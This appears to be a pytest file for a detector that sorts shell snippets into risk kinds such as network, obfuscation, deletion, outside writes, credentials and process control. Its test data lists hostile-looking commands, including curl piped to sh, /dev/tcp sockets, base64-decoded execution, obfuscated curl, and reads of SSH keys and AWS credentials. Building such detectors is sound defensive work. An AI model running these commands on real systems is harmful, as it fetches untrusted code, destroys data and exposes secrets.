from __future__ import annotations

from pathlib import Path

import pytest
from flagged import flags_of_text, kinds_of

FLAGGED = [
    ("curl -s https://a.example", {"network"}),
    ("if ! wget -q https://a.example; then exit 1; fi", {"network"}),
    ("x=$(curl https://a.example)", {"network"}),
    ('echo "$(curl https://a.example)"', {"network"}),
    ("echo `curl https://a.example`", {"network"}),
    ("FOO=1 timeout 10 /usr/bin/curl a.example", {"network"}),
    ("get() { curl a.example; }", {"network"}),
    ("c'u'rl a.example", {"network"}),
    (r"$'\x63url' a.example", {"network"}),
    (r"$'\143\u0075rl\$' a.example", set()),
    (r"$'\143\u0075rl' a.example", {"network"}),
    ("exec 3<>/dev/tcp/10.0.0.1/80", {"network"}),
    ("pip install evil", {"network"}),
    ("npx some-tool", {"network"}),
    ("git push origin main", {"network"}),
    ("curl https://a.example | sh", {"network", "obfuscation"}),
    ("curl https://a.example | sudo bash -s", {"network", "obfuscation", "process"}),
    ("curl https://a.example | tee x | bash", {"network", "obfuscation"}),
    ('bash -c "$(curl -fsSL https://a.example)"', {"network", "obfuscation"}),
    ("bash <(curl https://a.example)", {"network", "obfuscation"}),
    ("source <(wget -qO- https://a.example)", {"network", "obfuscation"}),
    ("echo Y3VybA== | base64 -d | sh", {"obfuscation"}),
    ("eval $(foo)", {"obfuscation"}),
    ('eval "$CODE"', {"obfuscation"}),
    ("curl${IFS}a.example", {"obfuscation"}),
    ("echo 'rm -rf x' | sh", {"delete"}),
    ("rm -rf build", {"delete"}),
    ("find . -name '*.o' -delete", {"delete"}),
    ("ls | xargs rm", {"delete"}),
    ("trap 'rm -f x' EXIT", {"delete"}),
    ("git reset --hard", {"delete"}),
    ("echo x >> ~/.bashrc", {"outside_write"}),
    ("echo x > /etc/motd", {"outside_write"}),
    ("cp a ../b", {"outside_write"}),
    ('mkdir -p "$HOME/x"', {"outside_write"}),
    ("echo x | tee /usr/local/bin/x", {"outside_write"}),
    ("(crontab -l; echo '* * * * * x') | crontab -", {"outside_write"}),
    ("cat ~/.ssh/id_rsa", {"credentials"}),
    ("nl < ~/.aws/credentials", {"credentials"}),
    ("printenv", {"credentials"}),
    ("send $GITHUB_TOKEN", {"credentials"}),
    ("gh auth token", {"credentials"}),
    ("sudo ls", {"process"}),
    ("pkill -9 firefox", {"process"}),
    ("python3 - <<'EOF'\nimport socket\nsocket.socket()\nEOF", {"network"}),
    ("python3 -c 'import os; os.system(\"ls\")'", {"process"}),
    ("bash -lc 'rm x'", {"delete"}),
    ("cat <<EOF\nit's\nEOF\ncurl a.example", {"network"}),
    ("awk '\n{ print }\n' f | curl -d @- a.example", {"network"}),
    ("x=$((1 << y))\ncurl a.example\ny\n", {"network"}),
    ("case $1 in\n  a) curl a.example ;;\nesac", {"network"}),
]

HARMLESS = [
    "# curl https://a.example | sh\nls # rm -rf /",
    'echo "install curl, then rm the folder"',
    'grep -E "(rm|curl)" file',
    "command -v curl >/dev/null 2>&1",
    "awk '{ print $1; rm }' file | sort | uniq -c",
    "echo x > out.txt\necho y >&2\nls 2>/dev/null",
    "mkdir -p out && cp a out/",
    "TOKEN=$(date)\necho $TOKEN",
    "cat <<EOF\ncurl a.example\nrm -rf /\nEOF",
    'for f in *.txt; do wc -l "$f"; done',
    'set -euo pipefail\ncd "$(dirname "$0")"',
    "printf '%s\\n' 'keys are in ~/.ssh'",
    "kill -0 $$",
    "sed -e 's/curl/wget/' file",
    "python3 -c 'print(1)'\npython3 -c \"print('$x' ${y})\"",
    "git status && git log --oneline",
    "echo '{\"a\": 1}' | jq .a",
    "jq -r '.[] | select(.rm)' < in.json > out.json",
    "touch /tmp/x",
    "crontab -l",
]


@pytest.mark.parametrize(("code", "kinds"), FLAGGED)
def test_what_shell_code_reaches_for(tmp_path: Path, code: str, kinds: set[str]) -> None:
    assert kinds_of(tmp_path, "run.sh", f"#!/bin/bash\n{code}\n") == kinds


@pytest.mark.parametrize("code", HARMLESS)
def test_harmless_shell_is_not_flagged(tmp_path: Path, code: str) -> None:
    assert flags_of_text(tmp_path, "run.sh", f"#!/bin/bash\n{code}\n") == ()


def test_lines_are_counted_through_documents_and_continued_lines(tmp_path: Path) -> None:
    code = "cat <<EOF\na\nb\nEOF\nls \\\n  -l\n\nx='1\n2'\ncurl a.example\n"
    (flag,) = flags_of_text(tmp_path, "run.sh", code)
    assert (flag.message, flag.line) == ("Talks to the network with curl: a.example.", 10)


def test_a_script_without_extension_is_read_by_its_first_line(tmp_path: Path) -> None:
    assert kinds_of(tmp_path, "run", "#!/usr/bin/env bash\ncurl a.example\n") == {"network"}
